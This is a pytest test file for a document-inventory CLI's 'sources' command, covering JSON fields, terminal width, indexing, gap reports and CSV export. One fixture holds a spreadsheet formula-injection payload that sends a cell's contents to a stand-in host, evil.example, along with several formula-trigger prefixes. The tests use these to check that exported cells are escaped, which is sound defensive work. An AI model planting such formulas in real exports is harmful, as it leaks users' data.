"""``yiju sources``: what machines rely on, what people see at any width, what spreadsheets get."""

import csv
import io
from pathlib import Path

import pytest

from tests.cli.conftest import CUSTOMER, Desk
from yiju.cli.inventory_csv import safe_cell

FIELDS = {"id", "title", "kind", "customer", "unit", "date", "pages", "paragraphs", "uri", "format", "parser"}
ADDED = {
    "opens",
    "language",
    "coverage",
    "index",
    "personal_data",
    "cited",
    "last_cited",
    "ingested_by",
    "stale",
}
EVIL = '=HYPERLINK("http://evil.example?x="&A1,"报价")'


@pytest.fixture(autouse=True)
def narrow(monkeypatch: pytest.MonkeyPatch) -> None:
    """A terminal of the usual width."""
    monkeypatch.setenv("COLUMNS", "80")


def test_machines_get_what_they_always_got_and_more(filled: Desk) -> None:
    told = filled("sources", "--json").json
    assert told.keys() == {"documents", "totals", "gaps", "index"}
    for one in told["documents"]:
        assert one.keys() >= FIELDS | ADDED
        assert (one["language"], one["index"]["state"], one["cited"]) == ("zh", "dense", 0)
        assert 0.9 < one["coverage"] <= 1
    assert told["totals"].keys() >= {"documents", "paragraphs", "pages", "by_kind", "by_customer", "undated"}
    assert told["totals"]["by_kind"] == {"call": 1, "mail": 1}
    assert told["index"]["pending"] == 0


def test_at_eighty_columns_no_id_and_no_day_is_cut(filled: Desk) -> None:
    ran = filled("sources")
    for one in filled("sources", "--json").json["documents"]:
        assert one["id"] in ran.out and one["date"] in ran.out
    assert "…" not in ran.out
    assert max(map(len, ran.out.splitlines())) <= 80
    assert "类型：通话 1，邮件 1" in ran.out and "都有向量" in ran.out


def test_what_waits_for_vectors_is_found_at_once_and_told(desk: Desk, files: Path) -> None:
    assert desk("ingest", str(files), "--customer", CUSTOMER, "--no-wait").code == 0
    answer = desk("ask", "付款条件是什么", "--customer", CUSTOMER, "--json").json
    cited = [c["quote"] for s in answer["sections"] for one in s["claims"] for c in one["citations"]]
    assert any("60日内电汇" in quote for quote in cited)
    told = desk("sources", "--unindexed", "--json").json
    assert {one["index"]["state"] for one in told["documents"]} == {"keyword"}
    assert told["index"]["pending"] == told["index"]["chunks"] > 0
    assert "其余先按关键词检索" in desk("sources").out
    assert desk("ingest", str(files), "--customer", CUSTOMER).code == 0
    assert desk("sources", "--unindexed", "--json").json["documents"] == []


def test_what_was_cited_is_counted(filled: Desk) -> None:
    assert filled("ask", "付款条件是什么", "--customer", CUSTOMER).code == 0
    told = {one["kind"]: one for one in filled("sources", "--json").json["documents"]}
    assert told["mail"]["cited"] == 1 and told["mail"]["last_cited"]


def test_gaps_are_told_to_people_and_machines(filled: Desk) -> None:
    ran = filled("sources", "--gaps", "--today", "2026-03-10")
    assert "从来没有合同" in ran.out and "之后没有邮件" in ran.out.replace("\n", "")
    told = filled("sources", "--json", "--today", "2026-03-10").json["gaps"]
    assert [(gap["kind"], gap["why"]) for gap in told] == [("mail", "old"), ("contract", "never")]
    (filled.data / "inventory.toml").write_text("needed = []\n[days]\ncall = 900\n", encoding="utf-8")
    assert "都有" in filled("sources", "--gaps", "--today", "2026-03-10").out


def test_a_spreadsheet_gets_text_and_no_formula(desk: Desk, tmp_path: Path) -> None:
    file = tmp_path / "note.md"
    file.write_text(f"# {EVIL}\n\n日期：2026-01-15\n\n付款方式为验收后电汇。\n", encoding="utf-8")
    assert desk("ingest", str(file), "--customer", "@恒升电机").code == 0
    ran = desk("sources", "--format", "csv")
    assert ran.out.startswith("\ufeff编号,客户,")
    head, row = csv.reader(io.StringIO(ran.out.removeprefix("\ufeff")))
    told = dict(zip(head, row, strict=True))
    assert (told["标题"], told["客户"]) == (f"'{EVIL}", "'@恒升电机")
    assert told["原件"] == file.resolve().as_uri()
    assert told["读入时间"].endswith("+08:00")
    gaps = list(
        csv.reader(io.StringIO(desk("sources", "--gaps", "--format", "csv").out.removeprefix("\ufeff")))
    )
    assert gaps[0][:4] == ["客户", "单元", "类型", "缺什么"]
    assert gaps[1][0] == "'@恒升电机"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "＝1", "\t=1", "  =1", "\r=1", "'=1"])
def test_what_a_spreadsheet_would_compute_is_marked(cell: str) -> None:
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "报价-终稿", "2026-01-15", "1+1", "a@b.example"])
def test_other_cells_stay(cell: str) -> None:
    assert safe_cell(cell) == cell


@pytest.mark.parametrize(
    ("line", "said"),
    [
        (("--kind", "fax"), "--kind"),
        (("--since", "2026-02-30"), "--since"),
        (("--format", "xml"), "--format"),
        (("--today", "昨天"), "--today"),
    ],
)
def test_bad_usage_names_the_option(filled: Desk, line: tuple[str, ...], said: str) -> None:
    ran = filled("sources", *line)
    assert ran.code == 2 and said in ran.err and "Traceback" not in ran.err


@pytest.mark.parametrize(
    ("line", "said"), [(("--unit", "无此单元"), "没有这个单元"), (("--customer", "无"), "客户")]
)
def test_what_is_not_there_is_said(filled: Desk, line: tuple[str, ...], said: str) -> None:
    ran = filled("sources", *line)
    assert ran.code == 1 and said in ran.err


def test_a_wrong_file_of_expectations_is_named(filled: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("YIJU_INVENTORY", str(filled.data / "none.toml"))
    ran = filled("sources")
    assert ran.code == 1 and "none.toml" in ran.err and "YIJU_INVENTORY" in ran.err


def test_a_kind_is_named_as_tables_name_it(filled: Desk) -> None:
    named, asked = (filled("sources", "--kind", one, "--json").json for one in ("通话", "call"))
    assert named["documents"] == asked["documents"] and len(named["documents"]) == 1
    assert "contract（合同）" in filled("sources", "--kind", "传真").err


def test_who_may_open_a_restricted_original_sees_that_it_is_one(filled: Desk) -> None:
    (one, *_) = filled("sources", "--json").json["documents"]
    assert "原件受限" not in filled("sources").out
    assert filled("documents", "set", one["id"], "--restricted").code == 0
    assert filled("sources").out.count("原件受限") == 1
